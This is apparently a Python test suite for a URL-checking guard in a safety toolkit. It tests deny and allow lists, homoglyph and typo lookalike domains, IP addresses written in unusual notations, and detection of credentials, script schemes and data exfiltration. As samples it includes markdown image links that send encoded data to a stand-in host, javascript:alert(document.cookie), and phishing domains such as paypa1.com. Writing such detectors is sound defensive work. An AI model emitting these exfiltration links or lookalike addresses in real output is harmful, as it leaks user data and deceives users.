"""The check of web addresses: what each category finds, what it leaves alone, and that stepping equals `run`."""

from __future__ import annotations

import pytest
from guard_helpers import chunk, cuts, steps_of
from hypothesis import example, given, settings
from hypothesis import strategies as st

from safety_kit.catalogue import url_categories
from safety_kit.check_options import UrlsOptions
from safety_kit.checks._addresses import LONGEST
from safety_kit.checks._hosts import Hosts, Lookalikes, address_of, read_host, skeleton
from safety_kit.checks.base import Delta
from safety_kit.checks.urls import UrlsCheck
from safety_kit.errors import PolicyError
from safety_kit.guard import Guard
from safety_kit.policy import Policy
from safety_kit.stream import StreamGuard
from safety_kit.types import Sample


def urls(**options: object) -> UrlsCheck:
    return UrlsCheck("urls", UrlsOptions(type="urls", **options), url_categories())  # type: ignore[arg-type]


OPEN = urls()
LISTS = urls(deny=("evil.com", "10.0.0.1"), protected=("paypal.com", "example.org"))
CLOSED = urls(allow=("example.com", "127.0.0.1"))


def found(check: UrlsCheck, text: str) -> list[tuple[str, str]]:
    (findings,) = check.run([Sample(text)])
    assert all(0 <= a < b <= len(text) for f in findings for a, b in f.spans)
    return [(f.category.rpartition(".")[2], text[a:b]) for f in findings for a, b in f.spans]


pieces = st.sampled_from(
    [
        *(
            "word ",
            "a",
            ".",
            " ",
            "\n",
            "(",
            ")",
            "[",
            "]",
            "](",
            "![",
            "!",
            "\\",
            "'",
            '"',
            "<",
            "@",
            "/",
            "//",
            ":",
            "://",
        ),
        *(
            "http",
            "https:",
            "http://",
            "www.",
            "javascript:",
            "data:",
            "src=",
            "[ref]: ",
            "x" * 90,
            "é",
            "中",
            "\ud800",
            "\u200b",
        ),
        *(
            "evil.com",
            "paypa1.com",
            "https://evil.com/a?b=c",
            "![i](http://h.example/?q=",
            "u:p4ss@",
            "token=abcdef123",
            "[::1]",
        ),
        *(
            "http://0x7f000001/",
            "data:image/png;base64,",
            "data:text/html,",
            "q" * 2100,
            "http://" + "y" * 1200,
            "/" * 400,
        ),
    ]
)
texts = st.lists(pieces, max_size=12).map("".join)


@pytest.mark.parametrize("check", [LISTS, CLOSED], ids=["lists", "closed"])
@settings(max_examples=120)
@given(text=texts, places=cuts)
@example(text="see http://evil.com/" + "a" * 5000 + " x", places=[3, 8, 12, 2060, 2062, 4100])
@example(text="![a](data:image/png;base64," + "A" * 5000 + ") http://evil.com", places=list(range(0, 5050, 99)))
@example(text="x" * 400 + "http://evil.com " + "a" * 290 + "://evil.com", places=list(range(0, 720, 13)))
@example(text="a" * 260 + ".evil.com evil.com", places=list(range(200, 280)))
@example(text="\\" * 401 + "![a](http://h.example/?q=" + "d" * 40 + ")", places=list(range(380, 420)))
def test_stepping_equals_run(check: UrlsCheck, text: str, places: list[int]) -> None:
    (whole,) = check.run([Sample(text)])
    for parts in (chunk(text, places), [*text[:300], text[300:]]):
        stepped, cleared = steps_of(check, [Delta(part) for part in parts])
        assert stepped == whole
        assert cleared == sorted(cleared)
        assert cleared[-1] == len(text)


@pytest.mark.parametrize("check", [LISTS, CLOSED], ids=["lists", "closed"])
@settings(max_examples=120)
@given(text=texts, places=cuts)
@example(text="a" * 290 + "://evil.com/ x", places=list(range(280, 300)))
def test_nothing_is_found_in_what_was_cleared(check: UrlsCheck, text: str, places: list[int]) -> None:
    seen, state, total = 0, check.start(), 0
    parts = chunk(text, places)
    for i, part in enumerate(parts):
        state, findings, cleared = check.step(state, Delta(part), i == len(parts) - 1)
        total += len(part)
        assert seen <= cleared <= total
        assert total - cleared <= LONGEST + len(part)
        assert all(start >= seen for f in findings for start, _ in f.spans)
        assert len(state.text) <= LONGEST + 200 + len(part)
        seen = cleared


# --- hosts


@pytest.mark.parametrize(
    ("raw", "host"),
    [
        ("Example.COM.", "example.com"),
        ("xn--pypal-4ve.com", "p\u0430ypal.com"),
        ("\uff45xample\u3002com", "example.com"),
        ("%65vil.com", "evil.com"),
        ("ev\u200bil.c\u00adom", "evil.com"),
        ("xn--\ud800", "xn--\ufffd"),
        ("", ""),
    ],
)
def test_hosts_have_one_spelling(raw: str, host: str) -> None:
    assert read_host(raw) == host


@pytest.mark.parametrize(
    ("host", "address"),
    [
        ("127.0.0.1", "127.0.0.1"),
        ("127.1", "127.0.0.1"),
        ("2130706433", "127.0.0.1"),
        ("0x7f000001", "127.0.0.1"),
        ("0177.0.0.0x1", "127.0.0.1"),
        ("[::ffff:7f00:1]", "127.0.0.1"),
        ("[fe80::1%eth0]", "fe80::1"),
        ("[nonsense]", None),
        ("256.1.1.1", None),
        ("1.2.3.4.5", None),
        ("08.1.1.1", None),
        ("4294967296", None),
        ("0x" + "f" * 300, None),
        ("a.b", None),
        ("", None),
    ],
)
def test_addresses_in_every_notation(host: str, address: str | None) -> None:
    assert address_of(host) == address


@given(st.integers(0, 2**32 - 1))
def test_notations_of_one_address_agree(value: int) -> None:
    dotted = ".".join(str(value >> shift & 255) for shift in (24, 16, 8, 0))
    octal = ".".join(f"0{value >> shift & 255:o}" for shift in (24, 16, 8, 0))
    assert {address_of(host) for host in (dotted, str(value), hex(value), octal)} == {dotted}


LOOKALIKES = Lookalikes(Hosts(["paypal.com", "bank.example", "m.io", "192.0.2.1"]))


@pytest.mark.parametrize(
    ("host", "why"),
    [
        ("p\u0430ypal.com", "mixes scripts"),
        ("\u0440\u0430\u0443\u0440\u0430\u04cf.com", "drawn like"),
        ("paypa1.com", "drawn like"),
        ("www.páypal.com", "drawn like"),
        ("paypall.com", "one edit"),
        ("papyal.com", "one edit"),
        ("pay-pal.com", "one edit"),
        ("aypal.com", "one edit"),
        ("paypal.co", "one edit"),
        ("paypal.com.evil.net", "inside"),
        ("login.paypal.com-secure.evil.net", "inside"),
        ("rn.io", "drawn like"),
        ("paypal.com", ""),
        ("www.paypal.com", ""),
        ("bank.example", ""),
        ("bonk.example", ""),  # too short a name to tell
        ("paypal.org", ""),
        ("mypaypalstory.com", ""),
        ("москва.рф", ""),
        ("192.0.2.2", ""),
        ("", ""),
    ],
)
def test_lookalikes(host: str, why: str) -> None:
    said = LOOKALIKES.why(host)
    assert said.startswith(why) if why and why != "inside" else (why in said and bool(said) == bool(why))


@given(st.text("abcdefghij", min_size=6, max_size=12), st.data())
def test_one_edit_is_found(name: str, data: st.DataObject) -> None:
    at = data.draw(st.integers(0, len(name) - 1))
    edited = data.draw(
        st.sampled_from([name[:at] + name[at + 1 :], name[:at] + "k" + name[at:], name[:at] + "k" + name[at + 1 :]])
    )
    assert bool(Lookalikes(Hosts([f"{name}.com"])).why(f"{edited}.com")) == (edited != name)


@given(st.text("abx0n-.[]:%4\u200b\ud800\u4e2d\u0430", max_size=30))
def test_hosts_and_skeletons_take_any_text(text: str) -> None:
    host = read_host(text)
    assert read_host(host) is not None
    assert skeleton(host) is not None
    address_of(host)
    LOOKALIKES.why(host)


# --- what each category finds


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Go to https://evil.com/path?x=1, now.", [("denied", "https://evil.com/path?x=1")]),
        ("(see www.sub.evil.com)", [("denied", "www.sub.evil.com")]),
        (
            "evil.com has it; notevil.com and evil.com.au do not",
            [("denied", "evil.com")],
        ),
        ("http:\\\\evil.com\\x", [("denied", "http:\\\\evil.com\\x")]),
        ("[x](//EVIL.com/a) [y](http:evil.com)", [("denied", "//EVIL.com/a"), ("denied", "http:evil.com")]),
        (
            "https://%65vil.com https://ok.net@evil.com",
            [("denied", "https://%65vil.com"), ("denied", "https://ok.net@evil.com")],
        ),
        ("https://ok.net/?u=https%3A%2F%2Fevil.com%2F", [("denied", "https://ok.net/?u=https%3A%2F%2Fevil.com%2F")]),
        ("postgres://evil.com/db", [("denied", "postgres://evil.com/db")]),
        ("http://10.1", [("denied", "http://10.1"), ("raw_ip", "http://10.1")]),
        ("mail me@evil.com", []),
        ("https://paypa1.com/login", [("lookalike", "https://paypa1.com/login")]),
        ("visit paypa1.com today", [("lookalike", "paypa1.com")]),
        ("https://paypal.com@other.net/", [("lookalike", "https://paypal.com@other.net/")]),
        ("https://paypal.com/ https://example.org https://fine.net", []),
    ],
)
def test_hosts_on_lists(text: str, expected: list[tuple[str, str]]) -> None:
    assert found(LISTS, text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://example.com/a https://www.example.com http://127.0.0.1:8000/", []),
        ("https://other.net/a", [("not_allowed", "https://other.net/a")]),
        ("www.other.net", [("not_allowed", "www.other.net")]),
        ("https://examp1e.com", [("lookalike", "https://examp1e.com"), ("not_allowed", "https://examp1e.com")]),
        ("other.net is named, not linked; e.g. main.py", []),
        ("redis://cache:6379 and file:///etc/hosts", []),
        ("http://[::1]/", [("raw_ip", "http://[::1]/"), ("not_allowed", "http://[::1]/")]),
        ("![a](https://example.com/i?q=" + "d" * 50 + ")", []),
        ("news:http:80 {http:true}", []),
    ],
)
def test_an_allow_list(text: str, expected: list[tuple[str, str]]) -> None:
    assert found(CLOSED, text) == expected


LINK = "http://h.example/p?q=" + "c2VjcmV0" * 3


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # credentials: the span is the secret alone
        ("https://bob:hunter22@h.example/", [("credentials", "bob:hunter22")]),
        ("https://bob@h.example https://user:password@h.example", []),
        ("https://h.example/?access_token=abc123def&x=1", [("credentials", "abc123def")]),
        ("https://h.example/?api_key=your_key https://h.example/?page=secret", []),
        # raw addresses
        ("http://192.168.0.1/x", [("raw_ip", "http://192.168.0.1/x")]),
        ("http://3232235521", [("raw_ip", "http://3232235521")]),
        ("https://0xC0A80001/", [("raw_ip", "https://0xC0A80001/")]),
        ("version 1.2.3.4 of it", []),
        # schemes
        ("[x](javascript:alert(1))", [("scheme", "javascript:alert(1)")]),
        ('<a href="JavaScript:void">', [("scheme", "JavaScript:void")]),
        ("javascript:alert(document.cookie)", [("scheme", "javascript:alert(document.cookie)")]),
        ("I like JavaScript: the good parts. data: see below, Data:x", []),
        ("data:text/html;base64,PHNjcmlwdD4=", [("scheme", "data:text/html;base64,PHNjcmlwdD4=")]),
        ("![a](data:image/png;base64,iVBORw0KGgo=)", []),
        ("![a](data:image/svg+xml,x)", [("scheme", "data:image/svg+xml,x")]),
        # exfiltration
        (f"![i]({LINK})", [("exfiltration", LINK)]),
        (f"![i]( <{LINK}> 'title')", [("exfiltration", LINK)]),
        (f"![i [j] k]({LINK}) ![a](b) [c]({LINK})", [("exfiltration", LINK)]),
        (f"![i \\[ j]({LINK})", [("exfiltration", LINK)]),
        (f"[![i]({LINK})](http://h.example)", [("exfiltration", LINK)]),
        (f"[![i](x.png)]({LINK})", []),
        (f"![i][r]\n\n[r]: {LINK}", [("exfiltration", LINK)]),
        (f'<img alt="a" src="{LINK}">', [("exfiltration", LINK)]),
        (f"<img src = '{LINK}'>", [("exfiltration", LINK)]),
        (f"background:url({LINK})", [("exfiltration", LINK)]),
        ("![i](//h.example/?q=" + "d" * 20 + ")", [("exfiltration", "//h.example/?q=" + "d" * 20)]),
        ("![i](https://" + "d" * 63 + "a.h.example/)", [("exfiltration", "https://" + "d" * 63 + "a.h.example/")]),
        ("![i](https://h.example/" + "d" * 64 + ".png)", [("exfiltration", "https://h.example/" + "d" * 64 + ".png")]),
        (f"[i]({LINK}) {LINK}", []),
        ("![build](https://badge.example/svg?branch=main&v=2)", []),
        ("![photo](https://h.example/2024/05/a-house-by-the-sea.jpg)", []),
        ("![x] and [y], then http://h.example/?q=" + "d" * 40, []),
    ],
)
def test_what_an_address_is_found_for(text: str, expected: list[tuple[str, str]]) -> None:
    assert found(OPEN, text) == expected


def test_long_addresses_are_found_whole_and_pictures_pass() -> None:
    address = "http://h.example/" + "a" * 5000
    assert "".join(part for _, part in found(OPEN, f"see {address} .")) == address
    assert {kind for kind, _ in found(OPEN, address)} == {"exfiltration"}
    assert {kind for kind, _ in found(OPEN, "data:text/html," + "a" * 5000)} == {"scheme"}
    picture = "data:image/png;base64," + "A" * 5000
    assert found(OPEN, f"![a]({picture}) {LINK}") == []
    assert found(LISTS, f"![a]({picture}) evil.com") == [("denied", "evil.com")]


def test_ordinary_words_are_cleared_at_once() -> None:
    state, _, cleared = LISTS.step(LISTS.start(), Delta("An ordinary sentence. "), False)
    assert cleared == 22
    _, _, cleared = LISTS.step(state, Delta("one wor"), False)
    assert cleared == 26


def test_a_stream_never_lets_an_address_out() -> None:
    guard = Guard(
        Policy.parse("""
version: 1
name: links
checks:
  urls: {type: urls, allow: [example.com]}
rules:
  - {category: urls.not_allowed, action: redact, form: {replace: '[link]'}}
""")
    )
    text = "See https://example.com/a and ![x](https://other.net/?q=1), www.third.net."
    expected = "See https://example.com/a and ![x]([link]), [link]."
    assert guard.check_text(text, "output").text == expected
    flow = StreamGuard(guard)
    assert "".join([*(flow.feed(char).text for char in text), flow.close().text]) == expected


@pytest.mark.parametrize(
    "text",
    [
        "a" * 60_000,
        "http://" * 9_000,
        "www." * 15_000,
        "](![" * 15_000,
        "a.b/" * 15_000,
        ":" * 60_000,
        "data:," * 9_000,
    ],
)
def test_work_is_linear(text: str) -> None:
    (findings,) = LISTS.run([Sample(text)])
    assert len(findings) <= len(text) // 16


@pytest.mark.parametrize(
    ("options", "why"),
    [
        ("allow: ['https://example.com']", "allow[0]: name a host alone"),
        ("deny: ['*.example.com']", "deny[0]: name a host alone"),
        ("allow: [a.com], deny: [A.com]", "a.com is in allow and in deny"),
        ("schemes: ['https:']", "schemes: name schemes such as"),
        ("max_image_data: -1", "max_image_data: "),
    ],
)
def test_options_that_make_no_sense(options: str, why: str) -> None:
    with pytest.raises(PolicyError) as caught:
        Policy.parse(
            f"version: 1\nname: n\nchecks:\n  u: {{type: urls, {options}}}\nrules: [{{category: urls.*, action: flag}}]"
        )
    assert why in str(caught.value)
